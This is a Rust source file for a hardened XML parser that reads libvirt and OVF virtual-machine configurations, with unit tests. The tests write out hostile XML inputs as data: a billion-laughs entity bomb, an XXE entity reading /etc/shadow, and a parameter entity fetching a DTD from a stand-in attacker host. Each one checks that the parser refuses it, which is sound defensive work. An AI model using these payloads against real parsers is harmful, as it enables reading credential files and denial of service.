//! A small, bounded XML tree over quick-xml: elements with resolved namespaces, attributes and
//! text. No DTD is read: a DOCTYPE that declares entities is refused, and any entity other than
//! the five predefined ones and character references is an error. Depth, element and attribute
//! counts are bounded by [`VmConfigLimits`]; nothing recurses on the document's depth.

use std::collections::{HashMap, HashSet};

use quick_xml::escape::resolve_xml_entity;
use quick_xml::events::{BytesStart, Event};
use quick_xml::name::ResolveResult;
use quick_xml::{NsReader, XmlVersion};

use crate::{clip, ConfigKind, Result, VmConfigError, VmConfigLimits};

/// Namespace URIs, interned: id 0 is "no namespace", id `i + 1` is `uris[i]`.
#[derive(Debug, Default)]
struct Namespaces {
    uris: Vec<String>,
    ids: HashMap<String, u32>,
}

impl Namespaces {
    fn id(&mut self, uri: &str) -> u32 {
        if let Some(&id) = self.ids.get(uri) {
            return id;
        }
        self.uris.push(uri.to_owned());
        let id = self.uris.len() as u32;
        self.ids.insert(uri.to_owned(), id);
        id
    }

    fn uri(&self, id: u32) -> Option<&str> {
        id.checked_sub(1).and_then(|i| self.uris.get(i as usize)).map(String::as_str)
    }
}

/// One attribute.
#[derive(Debug)]
pub(crate) struct Attr {
    ns: u32,
    local: String,
    pub(crate) value: String,
}

/// One element. Elements are stored in document (pre-)order; `end` is one past the last
/// descendant, so the subtree of `i` is `i + 1..end` and its next sibling (if any) is at `end`.
#[derive(Debug)]
pub(crate) struct Element {
    ns: u32,
    pub(crate) local: String,
    attrs: Vec<Attr>,
    text: String,
    end: usize,
}

/// A parsed document.
#[derive(Debug)]
pub(crate) struct Doc {
    namespaces: Namespaces,
    elements: Vec<Element>,
    /// Warnings from reading (an ignored DOCTYPE).
    pub(crate) warnings: Vec<String>,
}

/// Which namespace an element or attribute must be in.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Ns<'a> {
    /// No namespace at all.
    None,
    /// A namespace whose URI starts with this, or no namespace (tolerated: some writers omit it).
    PrefixOrNone(&'a str),
    /// A namespace whose URI ends with this, or no namespace.
    SuffixOrNone(&'a str),
}

impl Doc {
    fn ns_matches(&self, id: u32, want: Ns) -> bool {
        match (want, self.namespaces.uri(id)) {
            (Ns::None, None) => true,
            (Ns::None, Some(_)) => false,
            (Ns::PrefixOrNone(_) | Ns::SuffixOrNone(_), None) => true,
            (Ns::PrefixOrNone(p), Some(u)) => u.starts_with(p),
            (Ns::SuffixOrNone(s), Some(u)) => u.trim_end_matches('/').ends_with(s),
        }
    }

    /// The namespace URI of an element, if any.
    pub(crate) fn ns_uri(&self, i: usize) -> Option<&str> {
        self.namespaces.uri(self.elements.get(i)?.ns)
    }

    pub(crate) fn element(&self, i: usize) -> Option<&Element> {
        self.elements.get(i)
    }

    /// Whether element `i` is `local` in namespace `ns`.
    pub(crate) fn is(&self, i: usize, local: &str, ns: Ns) -> bool {
        self.elements.get(i).is_some_and(|e| e.local == local && self.ns_matches(e.ns, ns))
    }

    /// The direct children of `i`, in order.
    pub(crate) fn children(&self, i: usize) -> Children<'_> {
        let (next, end) = match self.elements.get(i) {
            Some(e) => (i + 1, e.end),
            None => (0, 0),
        };
        Children { doc: self, next, end }
    }

    /// All descendants of `i` (not `i` itself), in document order.
    pub(crate) fn descendants(&self, i: usize) -> std::ops::Range<usize> {
        match self.elements.get(i) {
            Some(e) => i + 1..e.end,
            None => 0..0,
        }
    }

    /// The first child of `i` named `local` in `ns`.
    pub(crate) fn child(&self, i: usize, local: &str, ns: Ns) -> Option<usize> {
        self.children(i).find(|&c| self.is(c, local, ns))
    }

    /// The trimmed text of the first child of `i` named `local` in `ns`, if not empty.
    pub(crate) fn child_text(&self, i: usize, local: &str, ns: Ns) -> Option<&str> {
        self.child(i, local, ns).and_then(|c| self.text(c))
    }

    /// The trimmed text directly inside `i`, if not empty.
    pub(crate) fn text(&self, i: usize) -> Option<&str> {
        self.elements.get(i).map(|e| e.text.trim()).filter(|t| !t.is_empty())
    }

    /// The value of attribute `local` in `ns` on `i`.
    pub(crate) fn attr(&self, i: usize, local: &str, ns: Ns) -> Option<&str> {
        let e = self.elements.get(i)?;
        e.attrs.iter().find(|a| a.local == local && self.ns_matches(a.ns, ns)).map(|a| a.value.as_str())
    }

    /// Whether any element or attribute is in a namespace whose URI starts with `prefix`.
    pub(crate) fn uses_namespace(&self, prefix: &str) -> bool {
        self.namespaces.uris.iter().any(|u| u.starts_with(prefix))
    }

    /// The root element (index 0).
    pub(crate) fn root(&self) -> usize {
        0
    }
}

/// Iterator over the direct children of an element.
pub(crate) struct Children<'a> {
    doc: &'a Doc,
    next: usize,
    end: usize,
}

impl Iterator for Children<'_> {
    type Item = usize;
    fn next(&mut self) -> Option<usize> {
        if self.next >= self.end {
            return None;
        }
        let i = self.next;
        // Skip over the child's own subtree to its next sibling: every element visited is a
        // direct child.
        self.next = self.doc.elements.get(i).map_or(self.end, |e| e.end.max(i + 1));
        Some(i)
    }
}

fn xml_err(offset: u64, e: impl std::fmt::Display) -> VmConfigError {
    VmConfigError::Xml { offset, message: clip(&e.to_string(), 200) }
}

/// Parses a whole document into a bounded tree.
pub(crate) fn parse(bytes: &[u8], limits: &VmConfigLimits) -> Result<Doc> {
    if bytes.starts_with(&[0xfe, 0xff]) || bytes.starts_with(&[0xff, 0xfe]) {
        return Err(VmConfigError::Unsupported("UTF-16 XML (only UTF-8 is read)".into()));
    }
    let mut reader = NsReader::from_reader(bytes);
    {
        let config = reader.config_mut();
        config.check_end_names = true;
        config.expand_empty_elements = false;
        config.allow_unmatched_ends = false;
        config.check_comments = false;
        config.trim_text_start = false;
        config.trim_text_end = false;
    }
    reader.resolver_mut().set_max_declarations_per_element(limits.max_xml_namespaces);
    let mut doc = Doc { namespaces: Namespaces::default(), elements: Vec::new(), warnings: Vec::new() };
    let mut stack: Vec<usize> = Vec::new();
    let mut nodes: u64 = 0;
    // Namespace declarations in scope: their total, and each open element's share.
    let mut in_scope: u64 = 0;
    let mut declared: Vec<u64> = Vec::new();
    let mut root_done = false;
    let max_nodes = limits.max_xml_nodes as u64;
    loop {
        let before = reader.buffer_position();
        let (resolved, event) = match reader.read_resolved_event() {
            Ok((r, ev)) => (resolve_ns(&mut doc.namespaces, r), ev),
            Err(e) => return Err(xml_err(reader.error_position(), e)),
        };
        match event {
            Event::Start(start) | Event::Empty(start) if root_done => {
                let _ = start;
                return Err(VmConfigError::Xml { offset: before, message: "a second root element".into() });
            }
            Event::Start(start) => {
                let n = count_declarations(&start, in_scope, limits)?;
                push_element(&reader, &mut doc, &mut stack, &start, resolved, before, &mut nodes, max_nodes, limits)?;
                in_scope += n;
                declared.push(n);
            }
            Event::Empty(start) => {
                count_declarations(&start, in_scope, limits)?;
                push_element(&reader, &mut doc, &mut stack, &start, resolved, before, &mut nodes, max_nodes, limits)?;
                close(&mut doc, &mut stack, &mut root_done);
            }
            Event::End(_) => {
                in_scope = in_scope.saturating_sub(declared.pop().unwrap_or(0));
                close(&mut doc, &mut stack, &mut root_done);
            }
            Event::Text(t) => {
                let text = t.xml_content(XmlVersion::Implicit1_0).map_err(|e| xml_err(before, e))?;
                append_text(&mut doc, &stack, &text, before)?;
            }
            Event::CData(t) => {
                let text = t.decode().map_err(|e| xml_err(before, e))?;
                append_text(&mut doc, &stack, &text, before)?;
            }
            Event::GeneralRef(r) => {
                let name = r.decode().map_err(|e| xml_err(before, e))?;
                let ch = if r.is_char_ref() {
                    match r.resolve_char_ref() {
                        Ok(Some(c)) => c.to_string(),
                        _ => return Err(xml_err(before, format!("bad character reference &{};", clip(&name, 40)))),
                    }
                } else if let Some(s) = resolve_xml_entity(&name) {
                    s.to_owned()
                } else {
                    return Err(VmConfigError::Entity {
                        offset: before,
                        name: clip(&name, 80),
                        reason: "only the five predefined entities and character references are read",
                    });
                };
                append_text(&mut doc, &stack, &ch, before)?;
            }
            Event::DocType(d) => {
                let content = String::from_utf8_lossy(d.as_ref()).into_owned();
                if content.contains("<!ENTITY") || content.contains("<!entity") {
                    return Err(VmConfigError::Entity {
                        offset: before,
                        name: clip(content.trim(), 80),
                        reason: "a DOCTYPE that declares entities is not read",
                    });
                }
                crate::warn(&mut doc.warnings, "DOCTYPE ignored");
            }
            Event::Decl(decl) => {
                if let Some(Ok(enc)) = decl.encoding() {
                    let enc = String::from_utf8_lossy(&enc).to_ascii_lowercase();
                    if !matches!(enc.as_str(), "utf-8" | "utf8" | "us-ascii" | "ascii") {
                        return Err(VmConfigError::Unsupported(format!(
                            "XML encoding {:?} (only UTF-8 is read)",
                            clip(&enc, 40)
                        )));
                    }
                }
            }
            Event::Comment(_) | Event::PI(_) => {}
            Event::Eof => break,
        }
    }
    if !stack.is_empty() || !root_done {
        return Err(VmConfigError::Xml {
            offset: reader.buffer_position(),
            message: if root_done || !stack.is_empty() {
                "document ends inside an element".into()
            } else {
                "no root element".into()
            },
        });
    }
    Ok(doc)
}

/// The namespace declarations of an element, checked with those already in scope against
/// `max_xml_namespaces`.
fn count_declarations(start: &BytesStart, in_scope: u64, limits: &VmConfigLimits) -> Result<u64> {
    let mut n = 0u64;
    for a in start.attributes().with_checks(false).flatten() {
        if a.key.as_namespace_binding().is_some() {
            n += 1;
            VmConfigLimits::check("max_xml_namespaces", in_scope + n, limits.max_xml_namespaces as u64)?;
        }
    }
    Ok(n)
}

fn resolve_ns(namespaces: &mut Namespaces, r: ResolveResult) -> Option<u32> {
    match r {
        ResolveResult::Bound(ns) => Some(namespaces.id(&String::from_utf8_lossy(ns.as_ref()))),
        ResolveResult::Unbound => Some(0),
        ResolveResult::Unknown(_) => None,
    }
}

fn append_text(doc: &mut Doc, stack: &[usize], text: &str, offset: u64) -> Result<()> {
    match stack.last().and_then(|&i| doc.elements.get_mut(i)) {
        Some(e) => e.text.push_str(text),
        None if text.trim().is_empty() => {}
        None => return Err(VmConfigError::Xml { offset, message: "text outside the root element".into() }),
    }
    Ok(())
}

fn close(doc: &mut Doc, stack: &mut Vec<usize>, root_done: &mut bool) {
    if let Some(i) = stack.pop() {
        let len = doc.elements.len();
        if let Some(e) = doc.elements.get_mut(i) {
            e.end = len;
        }
    }
    if stack.is_empty() {
        *root_done = true;
    }
}

#[allow(clippy::too_many_arguments)]
fn push_element(
    reader: &NsReader<&[u8]>,
    doc: &mut Doc,
    stack: &mut Vec<usize>,
    start: &BytesStart,
    resolved: Option<u32>,
    offset: u64,
    nodes: &mut u64,
    max_nodes: u64,
    limits: &VmConfigLimits,
) -> Result<()> {
    VmConfigLimits::check("max_xml_depth", stack.len() as u64 + 1, limits.max_xml_depth as u64)?;
    *nodes += 1;
    VmConfigLimits::check("max_xml_nodes", *nodes, max_nodes)?;
    let utf8 = |b: &[u8]| -> Result<String> {
        std::str::from_utf8(b).map(str::to_owned).map_err(|e| xml_err(offset, format!("name is not UTF-8: {e}")))
    };
    let (_, local) = reader.resolver().resolve_element(start.name());
    let local = utf8(local.as_ref())?;
    let ns =
        resolved.ok_or_else(|| xml_err(offset, format!("element <{}> has an undeclared prefix", clip(&local, 40))))?;
    let mut attrs = Vec::new();
    let mut seen = HashSet::new();
    for a in start.attributes().with_checks(false) {
        let a = a.map_err(|e| xml_err(offset, e))?;
        if a.key.as_namespace_binding().is_some() {
            continue;
        }
        if attrs.len() >= limits.max_xml_attributes {
            return Err(VmConfigError::LimitExceeded {
                limit: "max_xml_attributes",
                value: attrs.len() as u64 + 1,
                max: limits.max_xml_attributes as u64,
            });
        }
        *nodes += 1;
        VmConfigLimits::check("max_xml_nodes", *nodes, max_nodes)?;
        if !seen.insert(a.key.as_ref().to_vec()) {
            return Err(xml_err(
                offset,
                format!("attribute {} given twice", clip(&String::from_utf8_lossy(a.key.as_ref()), 40)),
            ));
        }
        let (r, alocal) = reader.resolver().resolve_attribute(a.key);
        let ans = match r {
            ResolveResult::Bound(n) => doc.namespaces.id(&String::from_utf8_lossy(n.as_ref())),
            ResolveResult::Unbound => 0,
            ResolveResult::Unknown(p) => {
                return Err(xml_err(
                    offset,
                    format!("attribute prefix {} is not declared", clip(&String::from_utf8_lossy(&p), 40)),
                ))
            }
        };
        let value = a
            .normalized_value_with(XmlVersion::Implicit1_0, 1, resolve_xml_entity)
            .map_err(|e| entity_or_xml(offset, e))?
            .into_owned();
        attrs.push(Attr { ns: ans, local: utf8(alocal.as_ref())?, value });
    }
    let idx = doc.elements.len();
    doc.elements.push(Element { ns, local, attrs, text: String::new(), end: idx + 1 });
    stack.push(idx);
    Ok(())
}

fn entity_or_xml(offset: u64, e: quick_xml::Error) -> VmConfigError {
    use quick_xml::escape::EscapeError;
    match &e {
        quick_xml::Error::Escape(EscapeError::UnrecognizedEntity(_, name)) => VmConfigError::Entity {
            offset,
            name: clip(name, 80),
            reason: "only the five predefined entities and character references are read",
        },
        _ => xml_err(offset, e),
    }
}

/// The kind of an XML configuration from its first bytes: the root element's local name
/// (`Envelope` in an OVF namespace, or `domain`), found by skipping the XML declaration,
/// comments, processing instructions and a DOCTYPE. `None` when it is not XML or neither root.
pub(crate) fn detect_root(head: &[u8]) -> Option<ConfigKind> {
    let mut s = head.strip_prefix(b"\xef\xbb\xbf").unwrap_or(head);
    // Each step consumes at least one byte, so this ends within head.len() steps.
    loop {
        s = s.trim_ascii_start();
        if let Some(rest) = s.strip_prefix(b"<?") {
            s = skip_past(rest, b"?>")?;
        } else if let Some(rest) = s.strip_prefix(b"<!--") {
            s = skip_past(rest, b"-->")?;
        } else if let Some(rest) = s.strip_prefix(b"<!DOCTYPE") {
            // An internal subset ends with "]>", otherwise the DOCTYPE ends at '>'.
            let gt = rest.iter().position(|&b| b == b'>')?;
            let bracket = rest.iter().position(|&b| b == b'[');
            s = match bracket {
                Some(b) if b < gt => skip_past(rest, b"]>")?,
                _ => rest.get(gt + 1..)?,
            };
        } else if let Some(rest) = s.strip_prefix(b"<") {
            let end =
                rest.iter().position(|&b| b.is_ascii_whitespace() || b == b'>' || b == b'/').unwrap_or(rest.len());
            let name = rest.get(..end)?;
            let local = match name.iter().rposition(|&b| b == b':') {
                Some(c) => name.get(c + 1..)?,
                None => name,
            };
            return match local {
                b"domain" => Some(ConfigKind::Libvirt),
                b"Envelope" if contains(head, b"schemas.dmtf.org/ovf/envelope") => Some(ConfigKind::Ovf),
                _ => None,
            };
        } else {
            return None;
        }
    }
}

fn skip_past<'a>(s: &'a [u8], pat: &[u8]) -> Option<&'a [u8]> {
    let i = s.windows(pat.len()).position(|w| w == pat)?;
    s.get(i + pat.len()..)
}

pub(crate) fn contains(s: &[u8], pat: &[u8]) -> bool {
    s.windows(pat.len()).any(|w| w == pat)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn doc(text: &str) -> Result<Doc> {
        parse(text.as_bytes(), &VmConfigLimits::default())
    }

    #[test]
    fn tree_text_attributes_and_namespaces() {
        let d = doc(concat!(
            "<?xml version='1.0' encoding='UTF-8'?>\n<!-- c --><?pi x?>",
            "<r xmlns='urn:a' xmlns:b='urn:b' b:x='1' y='&lt;&#x41;&#66;&amp;'>",
            "<c>one &amp; <![CDATA[<two>]]> &#x263A;</c><b:c/><c><d/></c>text</r>"
        ))
        .unwrap();
        let r = d.root();
        assert!(d.is(r, "r", Ns::PrefixOrNone("urn:a")));
        assert!(!d.is(r, "r", Ns::None));
        assert_eq!(d.ns_uri(r), Some("urn:a"));
        assert_eq!(d.attr(r, "x", Ns::PrefixOrNone("urn:b")), Some("1"));
        assert_eq!(d.attr(r, "x", Ns::None), None);
        assert_eq!(d.attr(r, "y", Ns::None), Some("<AB&"));
        let kids: Vec<usize> = d.children(r).collect();
        assert_eq!(kids.len(), 3);
        assert_eq!(d.text(kids[0]), Some("one & <two> ☺"));
        assert!(d.is(kids[1], "c", Ns::SuffixOrNone(":b")));
        assert_eq!(d.descendants(r).count(), 4);
        assert_eq!(d.child_text(r, "c", Ns::PrefixOrNone("urn:a")), Some("one & <two> ☺"));
        assert_eq!(d.text(r), Some("text"));
        assert!(d.uses_namespace("urn:b"));
        assert!(!d.uses_namespace("urn:z"));
        assert_eq!(d.children(999).count(), 0);
        assert_eq!(d.descendants(999).count(), 0);
        assert!(d.element(999).is_none());
    }

    fn is_entity_error(r: Result<Doc>) -> bool {
        matches!(r, Err(VmConfigError::Entity { .. }))
    }

    #[test]
    fn entity_bombs_and_external_entities_are_refused() {
        let laughs = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<domain><name>&lol9;</name></domain>"#;
        assert!(is_entity_error(doc(laughs)));
        let external = r#"<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/shadow">]><domain><name>&xxe;</name></domain>"#;
        assert!(is_entity_error(doc(external)));
        let parameter = r#"<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]><d/>"#;
        assert!(is_entity_error(doc(parameter)));
        // Undefined entities, with or without a DTD, in text and in attributes.
        assert!(is_entity_error(doc("<d>&xxe;</d>")));
        assert!(is_entity_error(doc("<d a='&xxe;'/>")));
        let e = doc("<d a='x&shadow;'/>").unwrap_err().to_string();
        assert!(e.contains("shadow"), "{e}");
        // An external DTD is never fetched: it is ignored, with a warning.
        let d = doc(r#"<!DOCTYPE domain SYSTEM "file:///etc/shadow"><domain/>"#).unwrap();
        assert_eq!(d.warnings, ["DOCTYPE ignored"]);
        // Bad character references.
        assert!(matches!(doc("<d>&#0;</d>"), Err(VmConfigError::Xml { .. })));
        assert!(matches!(doc("<d>&#xFFFFFFFFF;</d>"), Err(VmConfigError::Xml { .. })));
    }

    #[test]
    fn depth_nodes_and_attributes_are_bounded() {
        let deep = "<a>".repeat(100_000);
        let t = std::time::Instant::now();
        let e = doc(&deep).unwrap_err();
        assert!(matches!(e, VmConfigError::LimitExceeded { limit: "max_xml_depth", value: 257, max: 256 }), "{e}");
        let deep_closed = format!("{}{}", "<a>".repeat(256), "</a>".repeat(256));
        assert!(doc(&deep_closed).is_ok());
        eprintln!("100,000-deep nesting refused in {:?}", t.elapsed());

        let limits = VmConfigLimits { max_xml_nodes: 100, ..Default::default() };
        let many = format!("<r>{}</r>", "<a/>".repeat(100));
        let e = parse(many.as_bytes(), &limits).unwrap_err();
        assert!(matches!(e, VmConfigError::LimitExceeded { limit: "max_xml_nodes", .. }), "{e}");
        let attrs = format!("<r>{}</r>", "<a x='1' y='2'/>".repeat(40));
        assert!(matches!(
            parse(attrs.as_bytes(), &limits),
            Err(VmConfigError::LimitExceeded { limit: "max_xml_nodes", .. })
        ));

        let wide: String = (0..2000).map(|i| format!(" a{i}='v'")).collect();
        let e = doc(&format!("<r{wide}/>")).unwrap_err();
        assert!(matches!(e, VmConfigError::LimitExceeded { limit: "max_xml_attributes", .. }), "{e}");
        let decls: String = (0..2000).map(|i| format!(" xmlns:p{i}='urn:{i}'")).collect();
        assert!(matches!(doc(&format!("<r{decls}/>")), Err(VmConfigError::Xml { .. })));
        // Declarations spread over nested elements: bounded in total, so resolving each name
        // against those in scope stays cheap.
        let nested: String = (0..300).map(|i| format!("<e xmlns:p{i}='urn:{i}' xmlns='urn:d{i}'>")).collect();
        let e = doc(&nested).unwrap_err();
        assert!(matches!(e, VmConfigError::LimitExceeded { limit: "max_xml_namespaces", value: 257, .. }), "{e}");
        let t = std::time::Instant::now();
        let flat =
            format!("<r>{}</r>", (0..20_000).map(|i| format!("<e xmlns='urn:{}'/>", i % 200)).collect::<String>());
        assert!(doc(&flat).is_ok());
        eprintln!("20,000 elements each declaring a namespace: {:?}", t.elapsed());

        let huge = format!("<r a='{}'/>", "x".repeat(4 << 20));
        let d = doc(&huge).unwrap();
        assert_eq!(d.attr(0, "a", Ns::None).map(str::len), Some(4 << 20));
    }

    #[test]
    fn malformed_documents() {
        for (text, needle) in [
            ("", "no root element"),
            ("<!-- only a comment -->", "no root element"),
            ("<a><b></a>", ""),
            ("<a>", "ends inside"),
            ("<a/><b/>", "second root"),
            ("hello<a/>", "outside the root"),
            ("<a/>tail", "outside the root"),
            ("<p:a/>", "undeclared prefix"),
            ("<a p:x='1'/>", "not declared"),
            ("<a x='1' x='2'/>", "given twice"),
            ("<a x=1/>", ""),
            ("<a>&amp</a>", ""),
        ] {
            match doc(text) {
                Err(VmConfigError::Xml { message, .. }) => assert!(message.contains(needle), "{text:?}: {message}"),
                other => panic!("{text:?}: {other:?}"),
            }
        }
        // Non-UTF-8 in names, text and attributes.
        for bytes in [&b"<a\xff/>"[..], b"<a>\xff\xfe</a>", b"<a x='\xc3'/>", b"<a \xff='1'/>"] {
            assert!(matches!(parse(bytes, &VmConfigLimits::default()), Err(VmConfigError::Xml { .. })), "{bytes:?}");
        }
        assert!(matches!(
            parse(b"\xff\xfe<\0a\0/\0>\0", &VmConfigLimits::default()),
            Err(VmConfigError::Unsupported(_))
        ));
        assert!(matches!(doc("<?xml version='1.0' encoding='ISO-8859-1'?><a/>"), Err(VmConfigError::Unsupported(_))));
        assert!(doc("<?xml version='1.0' encoding='us-ascii'?><a/>").is_ok());
    }

    #[test]
    fn root_detection() {
        let ovf = b"<?xml version=\"1.0\"?><!--x--><ovf:Envelope xmlns:ovf=\"http://schemas.dmtf.org/ovf/envelope/2\">";
        assert_eq!(detect_root(ovf), Some(ConfigKind::Ovf));
        assert_eq!(detect_root(b"\xef\xbb\xbf  <Envelope xmlns='urn:other'>"), None);
        assert_eq!(
            detect_root(b"<!DOCTYPE domain [ <!ELEMENT domain ANY> ]>\n<domain type='qemu'>"),
            Some(ConfigKind::Libvirt)
        );
        assert_eq!(detect_root(b"<!DOCTYPE domain>\n<domain/>"), Some(ConfigKind::Libvirt));
        assert_eq!(detect_root(b"<domain"), Some(ConfigKind::Libvirt));
        assert_eq!(detect_root(b"<domainx/>"), None);
        assert_eq!(detect_root(b"<?xml"), None);
        assert_eq!(detect_root(b"<!-- unterminated"), None);
        assert_eq!(detect_root(b"<!DOCTYPE x [ unterminated"), None);
        assert_eq!(detect_root(b"<!DOCTYPE unterminated"), None);
        assert_eq!(detect_root(b"text"), None);
        assert_eq!(detect_root(b""), None);
    }
}
